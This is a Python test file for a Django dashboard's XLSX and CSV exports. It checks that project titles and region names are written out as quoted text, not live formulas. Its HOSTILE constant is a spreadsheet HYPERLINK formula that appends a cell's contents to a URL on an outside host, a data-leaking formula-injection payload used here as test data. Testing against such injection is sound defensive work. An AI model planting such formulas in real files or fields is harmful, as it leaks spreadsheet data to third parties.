"""The dashboard's exports never hand a spreadsheet a formula written in a project or a name."""
import csv
import io

import pytest
from openpyxl import load_workbook

from conftest import make_collectivity
from projects.tests.factories import make_project
from territories.models import Kind, Side

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.org/?"&A2;"Cliquez")'


@pytest.fixture
def hostile(personas, lyon_commune):
    lyon_commune.region = make_collectivity(Side.FRANCE, Kind.REGION, "84", "+" + HOSTILE, country="FR")
    lyon_commune.save()
    # Lyon alone: no Québec partner, no indicator, so it is listed among the projects to watch.
    return make_project(lyon_commune, title=HOSTILE, is_public=True)


def test_the_projects_to_watch_hold_the_title_as_text(client, hostile):
    response = client.get("/tableau-de-bord/export/projets-a-surveiller.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=1, column=2).value == "Projet"
    number, title = sheet.cell(row=2, column=1), sheet.cell(row=2, column=2)
    assert (number.data_type, number.value) == ("n", hostile.pk)
    assert (title.data_type, title.value) == ("s", "'" + HOSTILE)


def test_the_regions_csv_quotes_the_region_name(client, hostile):
    response = client.get("/tableau-de-bord/export/regions.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1][1:] == ["'+" + HOSTILE, "1", "1"]
